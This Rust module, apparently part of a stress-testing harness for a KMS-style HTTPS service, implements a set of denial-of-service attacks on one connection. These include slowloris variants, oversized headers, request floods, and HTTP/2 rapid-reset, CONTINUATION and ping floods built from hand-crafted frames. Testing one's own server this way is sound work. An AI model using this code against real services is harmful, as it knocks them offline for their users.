//! What an attacker does on one connection.

use std::io;
use std::time::{Duration, SystemTime};

use bytes::Bytes;
use http::{Method, Request};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::{drip, tls, until_ended};
use crate::random::random_bytes;
use crate::system::Caller;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// One way to cost more than one should.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Connects, and says nothing.
    Silent,
    /// Sends what is no TLS.
    Garbage,
    /// A `ClientHello` by the byte.
    SlowHello,
    /// Handshakes, and nothing else.
    Handshakes,
    /// A handshake, then silence.
    Idle,
    /// A head by the byte.
    SlowHead,
    /// A body by the byte, for a request that nobody signed.
    SlowBody,
    /// Headers of 256 KiB.
    GiantHeaders,
    /// Requests that nobody signed, as fast as they are answered.
    Unsigned,
    /// Streams that are opened and reset.
    RapidReset,
    /// Headers that go on without end.
    Continuation,
    /// Pings whose answers nobody reads.
    Pings,
    /// Sixty-four streams with bodies that never end.
    HeldStreams,
    /// Signed requests whose answers nobody reads.
    NeverReads,
    /// A signed request, and then the connection is kept, with a signed request now and then.
    SignedAndKept,
    /// A signed request, then sixty-three streams with bodies that never end.
    SignedHeldStreams,
}

impl Attack {
    /// Does it once, until the other side ends it.
    ///
    /// # Errors
    /// However it ended.
    pub async fn round(self, target: &Caller) -> Result<(), String> {
        let failed = |error: io::Error| error.to_string();
        let connect = || async { TcpStream::connect(target.address).await.map_err(failed) };
        match self {
            Self::Silent => until_ended(&mut connect().await?).await,
            Self::Garbage => {
                let mut stream = connect().await?;
                stream.write_all(&random_bytes::<4096>()).await.map_err(failed)?;
                until_ended(&mut stream).await;
            }
            // The header of a handshake record that announces 512 bytes, and then those.
            Self::SlowHello => drip(&mut connect().await?, &[22, 3, 1, 2, 0, 1, 0, 1, 252]).await.map_err(failed)?,
            Self::Handshakes => drop(tls(target, false).await?),
            Self::Idle => until_ended(&mut tls(target, false).await?).await,
            Self::SlowHead => {
                drip(&mut tls(target, false).await?, b"POST / HTTP/1.1\r\nx: y\r\n").await.map_err(failed)?;
            }
            Self::SlowBody => {
                let mut stream = tls(target, false).await?;
                let text = text_of(&request(target, b"", false), 30_000);
                stream.write_all(text.as_bytes()).await.map_err(failed)?;
                drip(&mut stream, b"{").await.map_err(failed)?;
            }
            Self::GiantHeaders => {
                let mut stream = tls(target, false).await?;
                let text = format!("POST / HTTP/1.1\r\nx-a: {}\r\n", "a".repeat(256 * 1024));
                // Refused before all of it is read.
                let _ = stream.write_all(text.as_bytes()).await;
                until_ended(&mut stream).await;
            }
            Self::Unsigned => many_requests(target, false).await.map_err(failed)?,
            Self::NeverReads => never_reads(target).await.map_err(failed)?,
            Self::SignedAndKept => signed_and_kept(target).await.map_err(failed)?,
            Self::RapidReset | Self::Continuation | Self::Pings | Self::HeldStreams | Self::SignedHeldStreams => {
                self.over_http2(target).await?;
            }
        }
        Ok(())
    }

    async fn over_http2(self, target: &Caller) -> Result<(), String> {
        let mut stream = tls(target, true).await?;
        let body = health_body();
        let signed = matches!(self, Self::SignedHeldStreams);
        let block = header_block(target, &request(target, body.as_bytes(), signed));
        let head = |stream: u32, flags: u8| frame(HEADERS, flags | END_HEADERS, stream, &block);
        let streams = (0..64).map(|number| 2 * number + 1);
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            Self::RapidReset => {
                let reset = |stream| [head(stream, END_STREAM), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat();
                bytes.extend((0..500).flat_map(|number| reset(2 * number + 1)));
            }
            Self::Continuation => {
                bytes.extend(frame(HEADERS, 0, 1, &block));
                bytes.extend(frame(CONTINUATION, 0, 1, &literal("x-a", &"a".repeat(100))).repeat(1000));
            }
            Self::Pings => bytes.extend(frame(PING, 0, 0, &[0; 8]).repeat(10_000)),
            _ => {
                let unfinished = |stream| [head(stream, 0), frame(DATA, 0, stream, &[b' '; 1000])].concat();
                if signed {
                    bytes.extend(head(1, 0));
                    bytes.extend(frame(DATA, END_STREAM, 1, body.as_bytes()));
                    bytes.extend(streams.skip(1).flat_map(unfinished));
                } else {
                    bytes.extend(streams.flat_map(unfinished));
                }
            }
        }
        // The connection may be ended before all of it is written.
        let _ = stream.write_all(&bytes).await;
        let _ = stream.flush().await;
        if self == Self::Pings {
            loop {
                stream.write_all(&bytes[PREFACE.len()..]).await.map_err(|error| error.to_string())?;
            }
        }
        until_ended(&mut stream).await;
        Ok(())
    }
}

fn health_body() -> String {
    json!({ "requestMetadata": { "kmsOperation": "KmsHealthCheck", "kmsRequestId": "1" } }).to_string()
}

/// A health check, signed with the target's credential or with another.
fn request(target: &Caller, body: &[u8], signed: bool) -> Request<Bytes> {
    let mut caller = target.clone();
    if !signed {
        caller.credential.secret_access_key = "x".repeat(43);
    }
    let client = caller.client();
    client.signed(&Method::POST, &client.path("health"), body.to_vec().into(), SystemTime::now()).unwrap()
}

/// The head of an HTTP/1.1 request, and its body if that is as long as announced.
fn text_of(request: &Request<Bytes>, announced: usize) -> String {
    let uri = request.uri();
    let mut text = format!("POST {} HTTP/1.1\r\nhost: {}\r\n", uri.path_and_query().unwrap(), uri.authority().unwrap());
    for (name, value) in request.headers() {
        text.extend([name.as_str(), ": ", value.to_str().unwrap(), "\r\n"]);
    }
    text.extend(["content-length: ", &announced.to_string(), "\r\n\r\n"]);
    if announced == request.body().len() {
        text.push_str(std::str::from_utf8(request.body()).unwrap());
    }
    text
}

/// One request after the other on one connection, until it ends.
async fn many_requests(target: &Caller, signed: bool) -> io::Result<()> {
    let body = health_body();
    let text = text_of(&request(target, body.as_bytes(), signed), body.len());
    let mut stream = tls(target, false).await.map_err(io::Error::other)?;
    let mut answer = [0; 4096];
    loop {
        stream.write_all(text.as_bytes()).await?;
        stream.flush().await?;
        if stream.read(&mut answer).await? == 0 {
            return Ok(());
        }
    }
}

async fn never_reads(target: &Caller) -> io::Result<()> {
    let body = health_body();
    let text = text_of(&request(target, body.as_bytes(), true), body.len()).repeat(20);
    let mut stream = tls(target, false).await.map_err(io::Error::other)?;
    // Until every buffer is full; then for as long as the connection lasts.
    loop {
        stream.write_all(text.as_bytes()).await?;
    }
}

async fn signed_and_kept(target: &Caller) -> io::Result<()> {
    let mut stream = tls(target, false).await.map_err(io::Error::other)?;
    let mut answer = [0; 4096];
    loop {
        let body = health_body();
        let text = text_of(&request(target, body.as_bytes(), true), body.len());
        stream.write_all(text.as_bytes()).await?;
        stream.flush().await?;
        if stream.read(&mut answer).await? == 0 {
            return Ok(());
        }
        sleep(Duration::from_secs(1)).await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field without indexing and without Huffman code (RFC 7541, section 6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        let len = text.len();
        bytes.push(u8::try_from(len.min(127)).unwrap());
        if len >= 127 {
            // An integer with a prefix of seven bits (section 5.1).
            let mut rest = len - 127;
            while rest >= 128 {
                bytes.push(u8::try_from(rest % 128).unwrap() | 128);
                rest /= 128;
            }
            bytes.push(u8::try_from(rest).unwrap());
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

fn header_block(target: &Caller, request: &Request<Bytes>) -> Vec<u8> {
    let authority = target.client().authority();
    let path = request.uri().path_and_query().unwrap().as_str();
    let pseudo = [(":method", "POST"), (":scheme", "https"), (":authority", &authority), (":path", path)];
    let others = request.headers().iter().map(|(name, value)| (name.as_str(), value.to_str().unwrap()));
    pseudo.into_iter().chain(others).flat_map(|(name, value)| literal(name, value)).collect()
}
